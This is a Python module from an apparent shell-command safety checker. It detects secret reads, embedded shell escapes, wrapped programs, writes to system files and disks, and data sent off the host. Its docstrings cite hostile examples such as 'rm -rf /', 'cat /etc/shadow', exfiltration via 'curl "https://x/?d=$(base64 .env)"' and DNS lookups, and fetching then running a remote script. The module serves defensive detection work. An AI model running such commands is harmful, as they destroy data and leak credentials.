"""Judging a program by what its words say, whether or not rules.toml knows it (issue 14 §2).

- A secret named anywhere in a word (``--key=PATH``, ``-iPATH``, ``@PATH``, ``file://PATH``,
  inside a quoted script) is read by the program.
- A word that is a program to run (``/usr/bin/x``, ``./run.sh``, or a command on PATH followed by
  its own arguments, ``--exec "rm -rf /"``) makes the program a wrapper: that command is judged,
  and the line is at least confirmed.
- Code for the program's own language in a value (``!cmd``, ``system("…")``, ``$(shell …)``,
  ``esyscmd``, ``\\write18``, backticks) is at least confirmed; readable commands inside are judged.
- A program without an entry whose option or operand names a system or critical file is
  treated as writing it.
"""

from __future__ import annotations

import functools
import itertools
import os
import re
import shlex
import shutil
from collections.abc import Sequence
from typing import TYPE_CHECKING

from ._args import split_args
from ._findings import MAX_VALUES, Context, Finding
from ._names import DEFAULT_SPEC, DOWNLOADERS, REMOTE, program
from ._paths import path_candidates
from ._regex_cache import lazy
from ._words import DYN, SimpleCommand, Word, literal

if TYPE_CHECKING:
    from ._judge import Judge

_PATHS_IN = lazy(r"(?<![\w.~/*?\]-])(?:file://(?:localhost)?)?((?:~/|/)[^\s'\"`;|&<>(){}$,=:!*?\[\]]*)")
"""Absolute or ``~`` paths inside a longer word (an option value, a URL, a quoted script)."""
_SECRET_CLASSES = frozenset({"secret", "protected", "network", "device"})
_WRITE_CLASSES = frozenset({"critical", "system", "sysdata", "top", "root", "holder", "traces", "switch", "secret", "protected",
                            "device"})
_CODE = (
    (lazy(r"(?:^|=)\s*:?!(.+)", re.S), "!"),
    (lazy(r"^\s*(?:(?:platform\s+)?shell|system|\\!)\s+(.+)", re.S), "shell escape"),
    (lazy(r"\bto\s+program\s+'((?:[^']|'')+)'", re.S | re.I), "COPY TO PROGRAM"),
    (lazy(r"\((?:[\w-]+:)?(?:system|shell-command|async-shell-command|call-process-shell-command|shell-command-to-string|"
          r"run-shell-command|run-program)\s+\"((?:[^\"\\]|\\.)+)\""), "(system …)"),
    (lazy(r"\b(?:execute(?:-silent)?|become)\(([^()'\"][^()]*)\)"), "execute()"),
    (lazy(r"\b(?:callCommand|spawnCommand|callProcess|system)\s+\"((?:[^\"\\]|\\.)+)\""), "call"),
    (lazy(r"\bexec\s*\{\s*['\"]([^'\"]+)['\"]\s*:"), "exec { }"),
    (lazy(r"\b(?:Proxy|Local)Command[\s=]+(.+)", re.S), "ProxyCommand"),
    (lazy(r"\b(?:sendmail|editor|pager|shell|display_filter|print_command|query_command)\s*=\s*[\"']([^\"']+)[\"']"),
     "set command"),
    (lazy(r"^\s*(?:\\!|\.(?:shell|system))\s+(.+)", re.S), "shell escape"),
    (lazy(r"\b(?:os\.)?(?:system|popen|exec[lv]?p?e?|spawn\w*|execute|run|shell_exec|passthru|proc_open|"
                r"syscmd|esyscmd|Popen|check_output|check_call|call)\s*\(\s*['\"]([^'\"]+)['\"]", re.S), "call"),
    (lazy(r"\$[({]shell\s+([^)}]+)[)}]"), "$(shell)"),
    (lazy(r"\\(?:immediate\\)?write18\s*\{([^}]*)\}"), "\\write18"),
    (lazy(r"%x[({\[]([^)}\]]+)[)}\]]"), "%x()"),
    (lazy(r"\be?syscmd\s*\(([^()]+)\)"), "esyscmd()"),
    (lazy(r"%\((?!\w+\)[sdifrxXeEgGcoaT%])([^()]+)\)"), "%()"),
    (lazy(r"`([^`]+)`"), "backticks"),
)
_CODE_HINT = lazy(r"\bload_extension\s*\(|^\s*\.load\s|\b(?:system|popen|exec[lv]?p?e?|spawn\w*|shell_exec|passthru|proc_open|esyscmd|syscmd|"
                        r"os\.execute|io\.popen|Runtime\.getRuntime|child_process|subprocess|__import__)\s*\(|"
                        r"\$[({]shell\s|\\write18|%x[({\[]")
_PROGRAM_OPTION = lazy(r"prog|command|cmd|exec|shell|editor|pager|helper|hook|filter|viewer|browser|"
                             r"askpass|wrapper|interpreter|-e$|--rsh|--use-compress|script|latex$|^--pipe$", re.I)
"""Option names whose value is a program (``--compress-program=``, ``--exec``, ``--pager``)."""
_WEB_URL = lazy(r"(?:https?|ftps?|wss?)://", re.I)
_BARE_NAME = lazy(r"[A-Za-z][\w.+-]*")
_CODE_OPTION = lazy(r"script|engine|provider|plugin|preload|extension|module-path|^--?(?:load|lib|require|init-file|rcfile)$", re.I)
_CODE_FILE = lazy(r"/|\.(?:so|nse|lua|py|pl|rb|js|sh|tcl|scm|el|vim)$")
"""An option that loads code (``nmap --script=x.nse``, ``openssl -engine ./e.so``) given a file of it."""
_MESSAGE_OPTION = lazy(r"^--?(?:m|message|msg|comment|description|desc|title|subject|body|summary|note|"
                             r"reason|label|annotation|text)$")
"""Option names whose value is prose (``git commit -m "make it faster"`` runs no make)."""
_RECURSIVE = frozenset({"-r", "-R", "--recursive", "-a", "--archive", "--dereference-recursive"})
_CREATE = frozenset({"-c", "--create", "-r", "--append", "-u", "--update"})
_WHOLE_TREE = frozenset({"rg", "ag", "ack", "ugrep", "zip", "7z", "7za", "rar", "restic", "borg", "duplicity", "rclone",
                         "rsync", "scp", "cpio", "pax", "git-annex"})
"""Programs that read every file below a directory operand by default."""
_NOT_PROGRAMS = frozenset({"test", "install", "true", "false", "yes", "echo", "printf", "sync", "time", "info",
                           "help", "[", "link", "type", "size", "join", "paste", "expand", "split", "print",
                           "list", "show", "add", "update", "build", "check", "clean", "start", "stop", "status", "pr",
                           "top", "look", "watch", "w", "last", "users", "more", "diff", "dir", "vdir"})
"""Words that are programs on PATH but much more often a subcommand (``cargo test --release``)."""
_CODE_VARS = lazy(r"^(?:[A-Z0-9_]*_)?(?:COMMAND|CMD|EDITOR|VISUAL|PAGER|PROGRAM|EXEC|ASKPASS|SHELL|HOOK|VIEWER|"
                        r"BROWSER|INTERPRETER|HELPER|TERMINAL)$|^GIT_CONFIG_VALUE_\d+$")
"""Environment variables whose value a program runs (``PAGER=``, ``GIT_SSH_COMMAND=``, ``FOO_CMD=``; a
``GIT_CONFIG_VALUE_n`` may set ``core.pager`` or an alias)."""


def secrets(judge: Judge, name: str, words: Sequence[Word], ctx: Context, *, foreign: bool = False) -> None:
    """A secret (or the daemon's own files, a raw device) named anywhere in ``words`` is read
    (``foreign``: only those outside the user's own home, for programs made to handle keys)."""
    own = judge.paths.home.rstrip("/") + "/"
    moved = ctx.cwd is not None and ctx.cwd != judge.paths.workspace
    for w in words:
        if w.dynamic and not w.value.startswith(("/", "~/")):
            continue  # (/proc/$(pgrep sshd)/environ still names a secret: the run-time part is any name)
        for v in w.values[:MAX_VALUES]:
            # (the path of a web URL is on another machine: `https://x.example/repo.key` is no key here)
            cands = path_candidates(v) + (_PATHS_IN.findall(v) if not _WEB_URL.match(v) else [])
            if v.startswith("-") and not v.startswith("--") and len(v) > 2:
                cands += _glued(v)  # -kPATH, -yfPATH: short options with a value glued on
            elif moved and v and "/" not in v and not v.startswith(("-", "@")) and "=" not in v:
                cands.append(v)  # `cd /etc && cat shadow`: a bare name is a file where the line went
            for cand in cands:
                cls = judge.paths.classify(cand, ctx.cwd, False, w.glob)[0]
                if foreign and (judge.paths.abspath(cand, ctx.cwd) or own).startswith(own):
                    continue
                if cls in _SECRET_CLASSES:
                    judge.effect("read", Word(w.text, (cand,), False, w.glob), ctx, name)
                    return


_STDIN_ESCAPE = lazy(r"^\s*(?::?!|\\!|\.(?:shell|system)\s|(?:platform\s+shell|shell|system|exec)\s)\s*(.+)$")
"""A line of a program's own script that runs a shell command: ``!cmd`` (ftp, vim ``:!``),
``\\! cmd`` (psql), ``.shell cmd`` (sqlite3), ``shell cmd`` (gdb), ``system cmd`` (mysql)."""


def stdin_escapes(judge: Judge, name: str, text: str, ctx: Context, depth: int) -> None:
    """Commands a program reading its own script from stdin (a here-string, ``echo … |``) is told
    to run through that script's shell escape: judged as command lines."""
    for raw in text.split("\n")[:MAX_VALUES * 4]:
        m = _STDIN_ESCAPE.match(raw)
        if m is not None and DYN not in m.group(1):
            judge.line(m.group(1), ctx, depth + 1, origin=f"{name} reading stdin")


_RUNS_INPUT = lazy(r"\b(?:system|exec|popen|qx)\s*\(?\s*(?:\$0|\$_|\$LINE|line|\$l)\s*\)?|`\$_`|"
                   r"\bprint\s*(?:\$0)?\s*\|\s*\"(?:/bin/)?(?:ba|da)?sh\"")
"""Code that runs each input line as a command: awk ``system($0)``, perl ``system($_)``, ``print | "sh"``."""


def input_commands(judge: Judge, name: str, code: str, cmd: SimpleCommand, ctx: Context, depth: int,
                   args: list[Word] | None = None, rest: list[Word] | None = None, language: str = "") -> None:
    """``awk '{system($0)}' <<< 'rm -rf /'``: interpreter code that runs every input line as a
    command, fed literal text: each line is judged as a command line (arguments: ``_code_args``).
    Code that runs its whole input as code (``exec(sys.stdin.read())``) is judged by that input."""
    from ._code_args import RUNS_STDIN, code_args

    code_args(judge, name, code, args or [], rest or [], ctx, depth)
    if language and cmd.stdin is not None and RUNS_STDIN.search(code):
        from ._shells import stdin_code  # (here: _shells imports this module)

        stdin_code(judge, cmd, ctx, depth, name, language)
    st = cmd.stdin
    if st is None or not _RUNS_INPUT.search(code):
        return
    from ._shells import pipe_text  # (here: _shells imports this module)

    text = st.text if st.kind == "text" else pipe_text(judge, st.source, 0)
    if text is None or st.dynamic or DYN in text:
        return
    for line in text.split("\n")[: MAX_VALUES * 4]:
        if line.strip():
            judge.line(line, ctx, depth + 1, origin=f"{name} running its input")


def code_values(judge: Judge, name: str, words: Sequence[Word], ctx: Context, depth: int) -> None:
    """Code for the program's own language inside its words: judged where readable, confirmed."""
    for w in words:
        v = w.value  # (run-time parts stay unknown: `exec { 'cat /etc/shadow <$(tty)': }` is still read)
        for rx, kind in _CODE:
            m = rx.search(v)
            if m is None:
                continue
            inner = m.group(1).strip()
            if kind == "!" and re.match(r"[^\s]*[*?\[]", inner):
                continue  # `--exclude='!*.py'`: a negated pattern, not a command
            ctx.add(Finding("confirm", "code.in-value", f"{name} is given code that runs a command ({kind} in "
                            f"{_short(w.text)})", frozenset({"dynamic"})))
            if inner:
                judge.line(inner, ctx, depth + 1, origin=f"{name} {kind}")
            return
        if _CODE_HINT.search(v):
            ctx.add(Finding("confirm", "code.in-value", f"{name} is given code that can run commands "
                            f"({_short(w.text)})", frozenset({"dynamic"})))
            return


def guessed_options(args: Sequence[Word]) -> frozenset[str]:
    """Options of a program without an entry that take the next word as their value because
    their name says it is a program (``--interpreter /usr/bin/python3``, ``--rsh /bin/sh``,
    ``-e sh``: judged as a program to run, not as a file the program writes) or where output
    goes (``--output /dev/sdb``: written)."""
    out = set()
    for k, w in enumerate(args[:-1]):
        v = w.value
        nxt = args[k + 1].value
        if ((v.startswith("--") and "=" not in v) or v == "-e") and _PROGRAM_OPTION.search(v) and not nxt.startswith("-"):
            out.add(v)
        elif ((v.startswith("--") and "=" not in v) or v in ("-o", "-O")) and _OUTPUT_OPTION.search(v) \
                and nxt.startswith(("/", "~/", "./")):
            out.add(v)  # `--output /dev/sdb`, `--log-file /etc/cron.d/x`: where the program writes
    return frozenset(out)


def programs(judge: Judge, name: str, operands: Sequence[Word], values: Sequence[tuple[str, Word]], ctx: Context,
             depth: int, *, readonly: bool) -> None:
    """Words that name a program to run make ``name`` a wrapper for it: judged, and confirmed.

    For a program on the read-only list only option values count that name a program by their
    option (``--compress-program=sh``) or by a path to an executable; its operands are data.
    """
    for opt, w in values:
        if w.dynamic or _MESSAGE_OPTION.match(opt):
            continue
        if _CODE_OPTION.search(opt) and _CODE_FILE.search(w.value):
            ctx.add(Finding("confirm", "wrap.loads-code", f"{name} {opt} loads code from {_short(w.text)}",
                            frozenset({"dynamic"})))
            return
        parts = w.value.split()
        if not parts:
            continue
        # (`-e` names a program only for a program without an entry: grep -e, sed -e are expressions)
        named = bool(_PROGRAM_OPTION.search(opt)) and not (opt == "-e" and judge.rules.command(name) is not None)
        # `start-stop-daemon --exec /bin/rm -- -rf /`: the operands are the named program's arguments.
        text = " ".join([w.value, *(_quote(o.value) for o in operands)]) if named and len(parts) == 1 else w.value
        if named and _names_a_program(w.value, ctx.cwd, judge) and not _is_program(parts[0], ctx.cwd, judge,
                                                                                   standalone=False):
            # `--browser=/usr/bin/firefox` names a program to run even where it is not installed.
            _wrapped(judge, name, text, ctx, depth)
            return
        if _is_program(parts[0], ctx.cwd, judge, standalone=len(parts) == 1 and not named, path_only=readonly and not named) \
                or (named and opt != "-e" and len(parts) > 1 and _BARE_NAME.fullmatch(parts[0])
                    and re.search(r"[|;&<>`$]", w.value)):
            # (`--conf-script='ufw disable'`: a command line where the option says so, installed here or not)
            _wrapped(judge, name, text, ctx, depth)
            return
    if readonly:
        return
    for k, w in enumerate(operands):
        if w.dynamic:
            continue
        parts = w.value.split()
        if len(parts) > 1 and _is_program(parts[0], ctx.cwd, judge, standalone=False):
            _wrapped(judge, name, w.value, ctx, depth)
            return
        if len(parts) == 1 and _is_program(parts[0], ctx.cwd, judge, standalone=k + 1 == len(operands)):
            rest = [x.value for x in operands[k + 1 :]]
            _wrapped(judge, name, " ".join([w.value, *(_quote(r) for r in rest)]), ctx, depth)
            return


_OUTPUT_OPTION = lazy(r"out|log|dump|save|write|dest|target|file|^-[oOwf]$", re.I)
"""Option names whose value is a file the program writes (``--output``, ``--log-file``, ``-o``)."""
_BIN_DIR = lazy(r"^(?:/usr)?(?:/local)?/s?bin/[^/]+$|/libexec/")
"""A program's place even when it is not installed here (``chsh -s /usr/bin/zsh``)."""


def option_programs(judge: Judge, args: Sequence[Word], ctx: Context) -> set[int]:
    """Words of a program without an entry that name an installed program right after one of
    its options (``useradd -s /bin/bash``, ``frob --on-done /bin/sh``): that option's value, a
    program to run or record, not a file the program writes (unless the option says output)."""
    out: set[int] = set()
    for prev, w in itertools.pairwise(args):
        p = prev.value
        if (p.startswith("-") and "=" not in p and not prev.dynamic and not _OUTPUT_OPTION.search(p)
                and "/" in w.value and not w.dynamic and (_is_program(w.value, ctx.cwd, judge, standalone=True)
                                                          or (_BIN_DIR.search(w.value) and (
                                                              p in ("-s", "--shell") or _PROGRAM_OPTION.search(p))))):
            out.add(id(w))
    return out


def output_devices(judge: Judge, name: str, values: Sequence[tuple[str, Word]], ctx: Context) -> None:
    """``frob --output=/dev/sda``, ``--log /dev/nvme0n1``: an option that names where output goes,
    given a disk, writes over that disk (whatever rules.toml knows of the program)."""
    for o, w in values:
        if _OUTPUT_OPTION.search(o) and not w.dynamic and \
                judge.paths.classify(w.value, ctx.cwd, False, w.glob)[0] == "device":
            judge.effect("write", w, ctx, name, option=f" with {o}")
            return


def writes(judge: Judge, name: str, operands: Sequence[Word], values: Sequence[tuple[str, Word]],
           clusters: Sequence[Word], ctx: Context) -> None:
    """A program without an entry that names a system or critical file is taken to write it
    (``-o/etc/fstab`` too: a short option with its value glued on). A program an option names
    to run (``--helper=/usr/bin/python3``) is not written: :func:`programs` confirms it."""
    words = [w for o, w in values if not ((_PROGRAM_OPTION.search(o) or not _OUTPUT_OPTION.search(o))
                                          and _names_a_program(w.value, ctx.cwd, judge) and "/" in w.value)]
    bare = {id(w) for w in operands}
    for w in (*words, *operands, *clusters):
        if w.dynamic:
            continue
        for v in w.values[:MAX_VALUES]:
            cands = [*path_candidates(v), *_PATHS_IN.findall(v)]
            if v.startswith("-") and not v.startswith("--") and len(v) > 2:
                cands += _glued(v)
            for cand in cands:
                cls = judge.paths.classify(cand, ctx.cwd, False, w.glob)[0]
                if cls == "traces" and id(w) in bare:
                    # `eqn /var/log/syslog`: a log as a bare operand is far more often read than wiped;
                    # wiping one is blocked where the line says so (`> log`, `truncate`, `-o log`).
                    ctx.add(Finding("confirm", "fs.guessed-write", f"{name} names {cand}, which a program the policy "
                                    "does not know may write", frozenset({"system"})))
                    ctx.target(cand)
                    return
                if cls in _WRITE_CLASSES:
                    judge.effect("write", literal(cand), ctx, name, option=" (named in its arguments)")
                    return


def home_trees(judge: Judge, name: str, options: frozenset[str], operands: Sequence[Word], ctx: Context) -> None:
    """``tar czf - ~``, ``grep -r … ~``, ``cp -r ~ …``: reading a whole home reads its secrets."""
    if not (options & _RECURSIVE or name in _WHOLE_TREE or (name in ("tar", "bsdtar") and options & _CREATE)):
        return
    for w in operands:
        if w.dynamic:
            continue
        for v in w.values[:MAX_VALUES]:
            path = judge.paths.abspath(v, ctx.cwd)
            if path is not None and judge.paths.holds_secrets(path):
                ctx.add(Finding("block", "fs.home-read", f"{name} reads all of {w.text}, a home directory, with the "
                                "secrets in it", frozenset({"secret"})))
                return


def code_variable(name: str) -> bool:
    """Whether an environment variable's value is a command some program runs."""
    return bool(_CODE_VARS.match(name))


def names_program(judge: Judge, value: str) -> bool:
    """Whether a setting's value names a program to run, as issue 14 §2 counts it: a path
    (``/usr/bin/vim``, ``./x``) or a command with its own arguments (``nano -w``), but not a
    bare name (``EDITOR=vim`` is just an editor) nor a read-only command (``less -R``)."""
    try:
        parts = shlex.split(value)
    except ValueError:
        return True
    if not parts or ("/" not in parts[0] and len(parts) == 1):
        return False
    name = parts[0].rstrip("/").rsplit("/", 1)[-1]
    args = [literal(p) for p in parts[1:]]
    spec = judge.rules.command(name) or DEFAULT_SPEC
    return not judge.is_readonly(name, split_args(args, spec.arg_options), args)


def is_command(word: str, cwd: str | None, judge: Judge) -> bool:
    """Whether ``word`` names a program: a path to an executable, or a command on PATH."""
    return _is_program(word, cwd, judge, standalone=False)


def _wrapped(judge: Judge, name: str, text: str, ctx: Context, depth: int) -> None:
    ctx.add(Finding("confirm", "wrap.program-argument", f"{name} is given a program to run ({_short(text)})",
                    frozenset({"dynamic"})))
    judge.line(text, ctx, depth + 1, origin=f"{name} runs")


def _is_program(word: str, cwd: str | None, judge: Judge, *, standalone: bool, path_only: bool = False) -> bool:
    """A path to an executable file, or (followed by its own arguments) a command on PATH."""
    if not word or word.startswith("-") or DYN in word:
        return False
    if "/" in word:
        path = judge.paths.abspath(word, cwd)
        return path is not None and os.path.isfile(path) and os.access(path, os.X_OK)
    return not standalone and not path_only and word not in _NOT_PROGRAMS and _on_path(word)


@functools.lru_cache(maxsize=2048)
def _on_path(word: str) -> bool:
    return re.fullmatch(r"[A-Za-z][\w.+-]*", word) is not None and shutil.which(word) is not None


def _glued(word: str) -> list[str]:
    """The value glued to a cluster of short options: ``-oPATH``, ``-yf/home/bob/key``, ``-f~/x``."""
    m = re.match(r"-[A-Za-z0-9]*?([/~.].*)$", word)
    return path_candidates(word[2:]) + (path_candidates(m.group(1)) if m else [])


def _names_a_program(value: str, cwd: str | None, judge: Judge) -> bool:
    """An option value that names a program: a path (``/usr/bin/x``, ``./run``), or a program on PATH."""
    first = value.split()[0] if value.split() else ""
    if re.match(r"(?:/|\./|\.\./|~/)[^\s]*[^/\s]$", first):
        # A path not there (yet) may still be the program; an existing file must be executable.
        path = judge.paths.abspath(first, cwd)
        return path is not None and (not os.path.lexists(path) or _is_program(first, cwd, judge, standalone=False))
    return _is_program(first, cwd, judge, standalone=False)


def _quote(word: str) -> str:
    return word if re.fullmatch(r"[\w@%+=:,./-]+", word) else "'" + word.replace("'", "'\\''") + "'"


def _short(text: str) -> str:
    return text if len(text) <= 60 else text[:57] + "..."


_NET_CLIENTS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "whois", "traceroute", "tracepath",
                          "openssl", "ssh", "telnet", "mtr", "arping", "nping", "hping3"})
_RUN_TIME_TEXT = lazy(r"\$\(|`|<\(")


def sends_output(judge: Judge, name: str, args: Sequence[Word], cmd: SimpleCommand | None, ctx: Context) -> None:
    """``curl "https://x/?d=$(base64 .env)"``, ``dig $(…).x.example``, ``ping -p $(xxd …)``: a network
    client whose words are built by a command at run time carries that command's output off the host;
    ``openssl s_client … < file`` (or fed by a pipe) carries the file."""
    if name not in _NET_CLIENTS and name not in DOWNLOADERS:
        return
    if name == "openssl" and cmd is not None and any(w.value in ("s_client", "s_time") for w in args):
        fed = (cmd.stdin is not None and cmd.stdin.kind == "pipe") or any(
            r.op == "<" and r.target is not None and r.target.value != "/dev/null" for r in cmd.redirects)
        if fed:
            ctx.add(Finding("confirm", "net.send-tls", "sending data off the host: openssl s_client sends what its "
                            "standard input holds", frozenset({"system"})))
            return
    for w in args:
        if w.dynamic and _RUN_TIME_TEXT.search(w.text):
            ctx.add(Finding("confirm", "net.send-substitution", f"sending data off the host: {name} sends text a "
                            f"command writes when the line runs ({_short(w.text)})", frozenset({"system"})))
            return


def fetched(cmd: SimpleCommand | None) -> bool:
    """Whether ``cmd`` reads from a pipe fed by a download (``curl … | tar x``,
    ``git archive --remote=URL … | tar x``)."""
    st = cmd.stdin if cmd is not None else None
    src = st.source if st is not None and st.kind == "pipe" else None
    if src is None or not src.words:
        return False
    argv = [w.value for w in src.words]
    name = program(src.words)
    return name in DOWNLOADERS or (name == "git" and "archive" in argv and any(a.startswith("--remote") for a in argv))


def remote_copies(judge: Judge, name: str, operands: Sequence[Word], ctx: Context) -> None:
    """``scp host:/tmp/x.sh . && sh x.sh``: files copied here from another machine are downloads;
    running one later in the line runs code from the network."""
    if name == "rclone" and operands and operands[0].value in ("copy", "copyto", "sync", "move", "moveto"):
        operands = operands[1:]  # `rclone copy remote:x.sh .`
    elif name not in ("scp", "rsync", "sftp"):
        return
    if len(operands) < 2 or any(w.dynamic for w in operands):
        return
    *sources, dest = (w.value for w in operands)
    if not any(REMOTE.match(v) and not v.startswith(("/", "~", ".")) for v in sources) or REMOTE.match(dest):
        return
    path = judge.paths.abspath(dest, ctx.cwd)
    if path is not None:
        into = dest.endswith("/") or dest in (".", "..") or os.path.isdir(path) or len(sources) > 1
        ctx.files[path.rstrip("/") + "/" if into else path] = None

